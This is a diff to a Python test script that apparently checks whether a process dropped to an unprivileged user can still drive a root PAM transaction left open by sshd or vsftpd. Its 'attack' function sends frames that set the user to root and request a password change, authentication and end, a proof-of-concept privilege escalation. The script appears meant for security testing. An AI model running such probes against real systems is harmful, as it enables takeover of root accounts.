@@ -1,13 +1,18 @@
 #!/usr/bin/python3 -B
-"""Who may still make calls of a transaction of root's: `dropped library|frames|lowered|ends` starts one for joe and forks, as sshd and
-vsftpd do. `dropped session PID` is joe in a process of sshd's, with its descriptors. Each line that it prints is a fact."""
+"""Who may still make calls of a transaction of root's: `dropped library|frames|lowered|ends` starts one for joe and
+forks, as sshd and vsftpd do. `dropped session PID` is joe in a process of sshd's, with its descriptors. Each line that
+it prints is a fact."""
+import ctypes
 import os
 import socket
 import sys
 import time
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from raw import *  # noqa: E402,F403
+import inside  # noqa: E402
+from raw import (
+    AUTHENTICATE, CHAUTHTOK, END, Pam, REPLY, TTY, USER, answer, drop, frame, send, set_item, sockets_of,
+)
 
 JOE = 1000
 
@@ -38,7 +43,12 @@ def in_a_copy(work):
 def attack(sock):
     """What somebody sends who wants to change root's password, and what he gets."""
     print("as root:", send(sock, set_item(USER, b"root"), 0))
-    for message in set_item(USER, b"root"), frame(CHAUTHTOK, bytes(4)), frame(AUTHENTICATE, bytes(4)), frame(END, bytes(4)):
+    for message in (
+        set_item(USER, b"root"),
+        frame(CHAUTHTOK, bytes(4)),
+        frame(AUTHENTICATE, bytes(4)),
+        frame(END, bytes(4)),
+    ):
         send(sock, message)
         print("frame:", answer(sock).strip().splitlines()[-1])
     half = set_item(USER, b"root")
@@ -63,7 +73,9 @@ def main(what, *words):
                 attack(sock)
         os._exit(0)
     pam = Pam("sshd", "joe", reply)
-    print("start", pam.started, "authenticate", pam.call("authenticate", 0), "open_session", pam.call("open_session", 0))
+    print(
+        "start", pam.started, "authenticate", pam.call("authenticate", 0), "open_session", pam.call("open_session", 0)
+    )
     if what == "library":
         def copy():
             drop(JOE)
@@ -89,4 +101,5 @@ def main(what, *words):
     print("user", pam.item(USER), "close_session", pam.call("close_session", 0), "end", pam.call("end", 0))
 
 
+inside.begin("library|frames|lowered|ends|session PID", __doc__)
 main(*sys.argv[1:])
